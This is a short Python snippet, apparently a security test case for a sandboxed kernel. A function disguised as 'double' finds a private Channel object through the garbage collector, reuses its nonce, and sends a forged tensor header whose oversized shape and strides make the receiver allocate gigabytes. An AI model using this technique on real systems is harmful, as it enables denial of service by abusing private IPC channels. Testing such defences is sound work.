# A small tensor with strides so wide that whoever restores them needs gigabytes.

# %% append=read-kernel
import gc
import json


def double(x):
    channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
    value = {"tensor": 0, "dtype": "float32", "strides": [64]}
    message = {"nonce": channel._nonce, "tensors": [["float32", [2 * 10**7], 0]], "header": {"value": value}}
    channel.connection.send(json.dumps(message).encode())
    return x
